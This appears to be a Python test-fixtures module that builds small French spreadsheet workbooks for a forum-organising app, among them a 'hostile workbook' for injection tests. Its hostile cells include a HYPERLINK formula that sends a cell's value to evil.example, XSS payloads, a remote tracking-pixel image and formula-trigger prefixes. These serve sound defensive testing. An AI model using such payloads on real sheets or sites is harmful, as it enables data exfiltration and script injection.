"""Small workbooks shared by several test modules, as cell text (``tab slug or title → rows``).

Each one's figures are computed by hand where a test states them: TINY (the city's pages: lodging,
meals, rooms; tests/test_views_city.py), the committee's members, proposals and rooms
(tests/test_views_committee.py), the lodging plan's guests and offers (tests/test_plans_lodging.py),
and two copies of the bundled sample: as tabs for the emulators, and rewritten cell by cell
(``rewrite_csv``) into the hostile workbook of tests/test_hostile.py.
"""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

from forum_data.sources import SAMPLE_DIR, read_csv_folder
from tests.builders import forum

# ---------------------------------------------------------------- the city: TINY

# Participants (forum days 3 and 4 July, nights of 2 and 3 July, no-show 12,5 %):
#   Ana   both days, eats both, végétarien, allergy → arachides, lodging both nights, PMR
#   Bob   3 July, eats 3 July, halal, lodging night of 2 July
#   Chloé 4 July, eats 4 July (blank Repas = her days), sans porc, allergy → lait + fruits à coque
#   Dan   cancelled: counted nowhere
#   Eve   both days, eats 3 July only, végan, allergy → gluten, lodging night of 3 July
# Meals 3 July: Ana, Bob, Eve = 3, forecast ⌈3 × 0,875⌉ = ⌈2,625⌉ = 3; diets végétarien 1, halal 1, végan 1;
#   allergies 2 (arachides 1, gluten 1). Meals 4 July: Ana, Chloé = 2, forecast ⌈1,75⌉ = 2;
#   diets végétarien 1, sans porc 1; allergies 2 (arachides 1, lait 1, fruits à coque 1).
# Attendance: 3 July Ana, Bob, Eve = 3; 4 July Ana, Chloé, Eve = 3.
# Lodging, night of 2 July: need Ana (PMR) + Bob = 2 (1 PMR); offers: Zorglub 2 places (not accessible) → offered 2,
#   accessible 0; covered = min(1, 0) + min(1, 0 + 2) = 1 → 1 accessible place missing.
# Night of 3 July: need Ana (PMR) + Eve = 2 (1 PMR); offers Zorglub 2 + hotel 3 accessible → offered 5 (3 accessible);
#   covered = min(1, 3) + min(1, 2 + 2) = 2 → everyone housed. Camping (complet) and auberge (retiré) do not count.
# Rooms in use: 3 July 9 h–10 h: « +33 6 12 34 56 78 » (12) and « =HYPERLINK… » (25) → 2 rooms, 37 people;
#   3 July 11 h–12 h 30: « @SUM(A1) », attendance unknown; 4 July 14 h–15 h: « -foo », 8 people.
HYPERLINK = '=HYPERLINK("http://x","clic")'
TINY = {
    "parametres": [["Paramètre", "Valeur"], ["Taux d'absence", "12,5 %"]],
    "collectif": [["Nom", "Email", "Statut"], ["Membre Canari", "membre@canari.example", "actif"]],
    "participants": [
        ["Nom", "Prénom", "Email", "Téléphone", "Jours", "Repas", "Régime", "Allergies", "Hébergement", "Nuits", "PMR",
         "Statut"],
        ["Canari", "Ana", "ana@canari.example", "06 11 11 11 11", "les deux", "", "végétarien",
         "allergie zorglub aux arachides", "oui", "les deux nuits", "oui", "inscrit"],
        ["Canari", "Bob", "bob@canari.example", "06 22 22 22 22", "3 juillet", "", "halal", "", "oui", "2 juillet",
         "non", ""],
        ["Canari", "Chloé", "chloe@canari.example", "", "4 juillet", "", "sans porc", "lait et noix de zorglub", "non",
         "", "", "inscrite"],
        ["Canari", "Dan", "dan@canari.example", "", "les deux", "", "", "", "oui", "3 juillet", "non", "annulé"],
        ["Canari", "Eve", "eve@canari.example", "", "les deux", "3 juillet", "végan", "gluten zorglub", "oui",
         "nuit du 3 au 4 juillet", "non", "ok"],
    ],
    "hebergements": [
        ["Nom", "Type", "Places", "Nuits", "Quartier", "Adresse", "Téléphone", "Prix par nuit", "Accessible PMR",
         "Statut", "Contact"],
        ["Chez Zorglub Canari", "chez l'habitant", "2", "", "Siam", "1 rue Canari", "06 99 99 99 99", "0", "non",
         "proposé", "zorglub@canari.example"],
        ["Hôtel Canari", "hôtel", "3", "3 juillet", "Recouvrance", "2 quai Canari", "", "80", "oui", "confirmé", ""],
        ["Camping Canari", "camping", "5", "", "Bellevue", "", "", "9", "non", "complet", ""],
        ["Auberge Canari", "auberge de jeunesse", "4", "", "Saint-Marc", "", "", "24,50", "non", "retiré", ""],
    ],
    "salles": [["Salle", "Capacité"], [HYPERLINK, "30"], ["+33 6 12 34 56 78", "20"], ["@SUM(A1)", "10"],
               ["-foo", "15"]],
    "planning": [
        ["Jour", "Début", "Fin", "Salle", "Activité", "Participants attendus"],
        ["03/07/2024", "9h", "10h", HYPERLINK, "Atelier de Zorglub Canari", "25"],
        ["03/07/2024", "9h", "10h", "+33 6 12 34 56 78", "Causerie", "12"],
        ["03/07/2024", "11h", "12h30", "@SUM(A1)", "Forum ouvert", ""],
        ["04/07/2024", "14h", "15h", "-foo", "Clôture", "8"],
    ],
}
CANARIES = ("canari", "zorglub", "06 11 11 11 11", "06 99 99 99 99")


# ---------------------------------------------------------------- the committee: members, proposals, rooms

COLLECTIF = ["Nom", "Prénom", "Structure", "Date d'inscription", "Rôles", "Statut"]
MEMBERS = [  # 4 active members over 16 days (1 → 16 March): 0.25 a day, 1.75 a week
    ["Le Bihan", "Morgane", "Tiers-lieu", "01/03/2024", "logistique, accueil", "actif"],
    ["Cadiou", "Erwan", "", "05/03/2024", "animation", "actif"],
    ["Quéré", "Maëlle", "", "10/03/2024", "communication", "actif"],
    ["Riou", "Thomas", "", "16/03/2024", "logistique", "actif"],
    ["Tanguy", "Nolwenn", "", "02/03/2024", "documentation", "intéressée"],
]


def collective_settings(threshold: int, as_of: str) -> list[list[str]]:
    return [["Paramètre", "Valeur"], ["Seuil collectif", str(threshold)], ["Date limite", "31/03/2024"],
            ["Date de référence", as_of]]


def collective_forum(threshold: int, as_of: str, extra=()):
    return forum(collectif=[COLLECTIF, *MEMBERS, *extra], parametres=collective_settings(threshold, as_of))


ACTIVITES = ["Titre", "Porteur", "Thèmes", "Format", "Durée", "Participants attendus", "Jour souhaité", "Statut"]
ROOMS = [["Salle", "Capacité", "Accessible PMR", "Équipements", "Jours disponibles"],
         ["Salle A", "30", "non", "paperboard", ""],
         ["Amphi B", "100", "oui", "vidéoprojecteur, sono", ""],
         ["Salle C", "40", "oui", "vidéoprojecteur", "3 juillet"],
         ["Salle D", "45", "non", "", "4 juillet"]]
ACTS = [ACTIVITES + ["Besoins"],
        ["Atelier PMR", "Anne", "culture", "atelier", "60", "20", "", "programmée", "accessible PMR, vidéoprojecteur"],
        ["<img src=x onerror=alert(1)>", "Bob", "ess", "atelier", "60", "", "", "programmée", ""]]
SESSIONS = [["Jour", "Début", "Fin", "Salle", "Activité", "Participants attendus"],
            ["03/07/2024", "9h", "10h", "Salle A", "Grand atelier", "42"],
            ["03/07/2024", "9h30", "10h30", "Salle A", "Petit atelier", "10"],
            ["03/07/2024", "9h", "10h", "Salle C", "<img src=x onerror=alert(1)>", ""],
            ["03/07/2024", "11h", "12h", "Salle A", "Atelier PMR", ""],
            ["04/07/2024", "9h", "10h", "Salle D", "Lecture", "36"]]


# ---------------------------------------------------------------- the lodging plan: guests and offers

GUESTS = ["Nom", "Email", "Hébergement", "Nuits", "PMR", "Statut", "Date d'inscription"]
OFFERS = ["Nom", "Type", "Places", "Nuits", "Accessible PMR", "Statut", "Adresse", "Téléphone", "Contact"]


def guest(name, nights="les deux nuits", pmr="", status="", on="", email=""):
    return [name, email or f"{name.lower()}@example.org", "oui", nights, pmr, status, on]


def offer(name, places, nights="", accessible="", status="proposé", kind="chez l'habitant"):
    return [name, kind, str(places), nights, accessible, status, "1 rue Secrète", "06 00 00 00 00", "Contact Secret"]


# ---------------------------------------------------------------- the bundled sample

#: The spreadsheet key the Sheets emulator serves the sample (or part of it) under.
KEY = "1FoRuMbReSt2024CoOpErAtIfS_aBcDeFgHiJkLmNoPq"


def sample_tabs() -> dict[str, list[list[str]]]:
    """The bundled sample's tabs, as cell text, for the emulators."""
    return {sheet.title: sheet.rows for sheet in read_csv_folder(SAMPLE_DIR).sheets}


def sample_copy(folder: Path) -> Path:
    """The bundled sample as a plain CSV folder: a real source (kind ``csv``), not the demo."""
    target = folder / "classeur"
    shutil.copytree(SAMPLE_DIR, target, ignore=shutil.ignore_patterns("*.py", "*.md"))
    return target


def rewrite_csv(path: Path, change) -> None:
    """Rewrite a CSV tab in place: ``change(index, record)`` edits each body row's ``header → cell`` dict."""
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    for index, row in enumerate(body):
        row += [""] * (len(header) - len(row))
        record = dict(zip(header, row))
        change(index, record)
        body[index] = [record[h] for h in header]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header] + body)


# ---------------------------------------------------------------- hostile cells in every free-text column

FORMULA = '=HYPERLINK("http://evil.example/?v="&A1;"clic")'
LONG = "Très long texte " * 1250                      # 20,000 characters
HOSTILE_CELLS = [
    FORMULA,
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "[clic](javascript:alert(1))",
    "![image](http://evil.example/pixel.png)",
    "**gras** $x^2$ :red[rouge] :material/warning:",
    "+33 6 00 00 00 00",
    "@SOMME(A1:A9)",
    "-2+3",
    LONG,
    "Fête 🎉 coopérative 🧭",
]
ROOM = "<img src=x onerror=alert('salle')>"              # a room renamed in Salles and Planning alike
ROOM_FORMULA = '=HYPERLINK("http://evil.example";"Amphi B")'


def hostile_workbook(folder: Path) -> Path:
    target = sample_copy(folder)
    counter = iter(range(10_000))

    def pick() -> str:
        return HOSTILE_CELLS[next(counter) % len(HOSTILE_CELLS)]

    def free(*columns):
        def change(i, r):
            for column in columns:
                if column in r and (i % 2 == 0 or column in ("Titre", "Structure")):
                    r[column] = pick()
        return change

    def rooms(i, r):
        r["Salle"] = {"Amphi A": ROOM, "Amphi B": ROOM_FORMULA}.get(r["Salle"], r["Salle"])
        r["Bâtiment"], r["Équipements"] = pick(), pick()

    def planning(i, r):
        r["Salle"] = {"Amphi A": ROOM, "Amphi B": ROOM_FORMULA}.get(r["Salle"], r["Salle"])
        if i % 3 == 0:
            r["Activité"] = pick()

    tabs = {
        "Collectif": free("Nom", "Prénom", "Structure", "Ville", "Rôles", "Statut"),
        "Partenaires": free("Structure", "Apport", "Type"),
        "Activités": free("Titre", "Porteur", "Besoins", "Format", "Thèmes"),
        "Salles": rooms,
        "Planning": planning,
        "Participants": free("Nom", "Prénom", "Structure", "Profil", "Régime"),
        "Hébergements": free("Nom", "Quartier", "Type"),
    }
    for name, change in tabs.items():
        rewrite_csv(target / f"{name}.csv", change)
    return target
